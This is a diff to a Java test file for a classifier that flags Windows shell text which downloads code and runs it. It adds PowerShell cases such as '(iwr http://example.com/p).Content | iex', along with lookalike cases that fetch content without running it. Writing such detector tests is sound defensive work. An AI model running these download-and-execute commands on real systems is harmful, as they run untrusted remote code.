@@ -97,6 +97,10 @@ class ShellFormsTest {
                 "curl.exe -s http://example.com/p -o a.ps1\n. .\\a.ps1",
                 "powershell -c \"Start-BitsTransfer http://example.com/a.exe a.exe; .\\a.exe\"",
                 "msiexec /q /i http://example.com/a.msi",
+                "(iwr http://example.com/p).Content | iex",
+                "(Invoke-WebRequest http://example.com/p -UseBasicParsing).Content.ToString() | Invoke-Expression",
+                "iex (iwr http://example.com/p).Content",
+                "$t = (iwr http://example.com/p).Content\niex $t",
             })
     void whatWindowsFetchesIsRun(String text) {
         assertThat(kinds(text)).containsExactly(Trait.Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
@@ -113,6 +117,9 @@ class ShellFormsTest {
                 "& cmd /c \"curl -o a.txt http://example.com/p && type a.txt\"",
                 "msiexec /q /i a.msi; Write-Host http://example.com",
                 "echo 'a'+'b' `n x",
+                "(iwr http://example.com/p).Content | ConvertFrom-Json",
+                "(iwr http://example.com/p).ContentType | iex",
+                "(iwr http://example.com/p).StatusCode | Write-Host",
             })
     void whatWindowsFetchesIsNotRun(String text) {
         assertThat(kinds(text)).isEmpty();
